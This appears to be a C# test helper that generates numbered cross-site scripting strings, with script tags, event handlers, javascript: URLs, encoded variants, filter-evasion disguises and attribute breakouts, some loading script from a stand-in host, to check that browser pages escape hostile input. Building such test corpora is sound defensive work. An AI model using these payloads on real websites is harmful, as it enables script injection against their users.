using System.Globalization;
using System.Text;

namespace ToolVerdicts.BrowserTests.Hostile;

/// <summary>
/// A text that runs script, or loads a resource from another host, when a page writes it as markup. The same number always gives the
/// same text.
/// </summary>
/// <param name="Number">The argument of the call <c>hit(Number)</c> that its script makes.</param>
/// <param name="Family">The index of the attack form, counted over all three lists of forms.</param>
/// <param name="Text">The text, on one line.</param>
public sealed record HostileString(int Number, int Family, string Text)
{
    private const int Seed = 20_261_122;

    // The import refuses longer names.
    private const int Longest = 180;

    // Forms that act at once in a page that writes text as markup. {0} is the script, {1} an address on another host.
    private static readonly string[] LiveForms =
    [
        "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<body onload={0}>",
        "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
        "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>",
        "<audio src=x onerror={0}></audio>", "<img src={1}>", "<link rel=stylesheet href={1}>",
        "<style>@import '{1}'</style>", "<object data={1}></object>", "<embed src={1}>", "<iframe src=javascript:{0}></iframe>",
        "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><image href={1}>", "<marquee onstart={0}>x</marquee>",
        "<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={0}>",
        "<form><button formaction=javascript:{0} autofocus>x</button></form>", "<a href=javascript:{0}>x</a>", "<base href={1}>",
        "<IMG \"\"\"><SCRIPT>{0}</SCRIPT>\">",
        "<<script>{0}//<</script>", "<img/src/onerror={0}>", "<svg/onload={0}//",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<!--><img src=x onerror={0}>-->",
        "<?xml?><img src=x onerror={0}>", "<template><script>{0}</script></template><script>{0}</script>",
        "<select><option><img src=x onerror={0}></select><img src=x onerror={0}>",
        "<x onclick={0} tabindex=1 autofocus onfocus={0}>", "<img src=x:x onerror\t=\t{0}>", "<script src={1}></script>",
        "<input type=image src={1}>",
    ];

    // Forms that need more than unescaped output: a page that decodes twice, a template engine, a script block, a stylesheet, Markdown.
    private static readonly string[] OtherForms =
    [
        "<scr<script>ipt>{0}</scr</script>ipt>", "<![CDATA[<img src=x onerror={0}>]]>", "<meta http-equiv=refresh content=\"0;url={1}\">",
        "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
        "%3Cscript%3E{0}%3C/script%3E", "%253Cscript%253E{0}", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{0}\\x3c/script\\x3e", "+ADw-script+AD4-{0}+ADw-/script+AD4-", "＜script＞{0}＜/script＞",
        "‹script›{0}‹/script›", "¼script¾{0}¼/script¾", "\u00ABimg src=x onerror={0}\u00BB",
        "\uE000img src=x onerror={0}\uE001",
        "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "<%={0}%>", "';{0};'", "\";{0};\"", "`;{0};`", "\\';{0};//",
        "\\\";{0};//", "-{0}-", "{0}", "javascript:{0}", "java\u00ADscript:{0}", "data:text/html,<script>{0}</script>",
        "[x](javascript:{0})", "![x]({1})", "<javascript:{0}>", "expression({0})", "url(javascript:{0})", "}}*{{background:url({1})}}",
        "\u202E>tpircs/<{0}>tpircs<", "\u2028{0}\u2029", "\u0001\u0002<b>{0}", "@import '{1}'", "xss:expression({0})",
    ];

    // Prefixes that close the element, attribute or comment around the text.
    private static readonly string[] Breakouts =
    [
        "", "", "\">", "'>", "\"'>", "` >", "</p>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>",
        "</select>", "</svg>", "-->", "]]>", "?>", "*/", "\\\">", "x\" ", "</a>", "</h1>", "</option>", "&quot;>",
    ];

    // Forms that break out of an attribute.
    private static readonly string[] AttributeForms =
    [
        "\" autofocus onfocus=\"{0}", "' autofocus onfocus='{0}", "\" onmouseover=\"{0}\" x=\"", "x onerror={0} ",
        "\" style=\"background:url({1})", "\" src=\"{1}\" onerror=\"{0}",
    ];

    /// <summary>The number of families that run in a page that writes text as markup.</summary>
    public static int LiveFamilies => LiveForms.Length;

    /// <summary>True when the string must be detected in a page that writes text as markup.</summary>
    public bool IsLive => Family < LiveForms.Length;

    /// <summary>A word that no page contains unless it shows this text.</summary>
    public string Token => $"xq{Number}q";

    /// <summary>The strings with the numbers from 0 to <paramref name="count"/> - 1.</summary>
    public static IReadOnlyList<HostileString> Generate(int count) => Enumerable.Range(0, count).Select(Of).ToList();

    private static HostileString Of(int number)
    {
        string[] forms = [.. LiveForms, .. OtherForms, .. AttributeForms];
        var family = number % forms.Length;
        var chance = new Random(Seed + number);
        var form = forms[family];
        var text = string.Format(CultureInfo.InvariantCulture, form, $"hit({number})", $"//elsewhere.invalid/{number}");
        // The first string of each family is plain; later ones are disguised.
        if (number >= forms.Length && family < LiveForms.Length)
            text = Breakouts[chance.Next(Breakouts.Length)] + Disguise(text, chance);
        return new HostileString(number, family, $"{(text.Length > Longest ? text[..Longest] : text)} xq{number}q");
    }

    private static string Disguise(string text, Random chance) => chance.Next(6) switch
    {
        0 => MixCase(text, chance),
        1 => text.Replace(" on", "/on", StringComparison.Ordinal),
        2 => text.Replace("=", " = ", StringComparison.Ordinal),
        3 => text.Replace("<", $"<{(chance.Next(2) == 0 ? "" : "x><")}", StringComparison.Ordinal),
        4 => text.Replace("hit(", "hit&#40;", StringComparison.Ordinal),
        _ => text,
    };

    private static string MixCase(string text, Random chance)
    {
        var bent = new StringBuilder(text);
        var end = text.IndexOfAny(['(', '/', '=']);
        for (var i = 0; i < end; i++)
            bent[i] = chance.Next(2) == 0 ? char.ToUpperInvariant(bent[i]) : bent[i];
        return bent.ToString();
    }
}
